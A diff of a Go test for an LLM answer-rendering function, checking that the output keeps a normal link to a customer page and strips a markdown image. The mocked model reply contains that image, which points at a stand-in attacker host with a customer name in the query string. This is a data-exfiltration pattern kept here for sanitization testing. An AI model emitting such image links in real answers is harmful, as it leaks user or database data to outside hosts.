@@ -110,16 +110,16 @@ func TestUnanswerable(t *testing.T) {
 func TestAnswer(t *testing.T) {
 	t.Parallel()
 	onEach(t, func(t *testing.T, provider string) {
-		s := saying(t, provider, "**Ada** spent most [step 1], see [her page](https://ada.example/x) [step 7]. ![x](https://evil.example/?q=Ada)")
+		s := saying(t, provider, "**Ada** spent most [step 1], see [her page](https://ada.example/) [step 7]. ![x](https://evil.example/?q=Ada)")
 		chat, _ := s.chat(llm.ChatConfig{})
 		answer, err := chat.Answer(t.Context(), llm.AnswerTask{Task: shopTask(), Steps: []llm.Step{
-			{Instruction: "Sum by customer", Query: "SELECT 1", Rows: rowsOf(`{"name":"Ada","page":"https://ada.example/"}`)},
+			{Instruction: "Sum by customer", Query: "SELECT 1 FROM orders", Rows: rowsOf(`{"name":"Ada","page":"https://ada.example/"}`)},
 			{Instruction: "Try more", Failure: "no such column"},
 		}})
 		if err != nil {
 			t.Fatal(err)
 		}
-		if want := "**Ada** spent most [step 1], see [her page](https://ada.example/x). x"; answer.Markdown != want {
+		if want := "**Ada** spent most [step 1], see [her page](https://ada.example/). x"; answer.Markdown != want {
 			t.Errorf("answer %q, want %q", answer.Markdown, want)
 		}
 		checkUsage(t, provider, answer.Usage, 1)
